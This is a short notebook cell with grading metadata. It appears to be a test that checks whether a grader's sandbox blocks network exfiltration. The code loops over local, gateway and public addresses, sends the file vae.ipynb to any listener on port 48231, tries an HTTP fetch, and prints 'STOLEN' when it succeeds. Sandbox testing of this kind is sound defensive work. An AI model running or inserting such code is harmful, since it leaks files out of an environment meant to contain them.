# ---
# jupyter:
#   corpus:
#     title: exfiltration over TCP
#     attempts: sends the notebook to a waiting listener on the grading machine, by sockets, HTTP and a proxy
#     points: {1a: 0, 2: 0, 3: 0}
#     flags: [network]
#     reference: false
# ---

# %% after="imports"
import socket
import urllib.request

for host in ("127.0.0.1", "localhost", "::1", "10.0.2.2", "172.17.0.1", "1.1.1.1"):
    try:
        with socket.create_connection((host, 48231), timeout=0.5) as connection:
            connection.sendall(open("vae.ipynb", "rb").read())
            print("STOLEN: connected to", host)
    except OSError:
        pass
try:
    print("STOLEN:", urllib.request.urlopen("http://127.0.0.1:48231/", timeout=1).read())
except OSError:
    pass
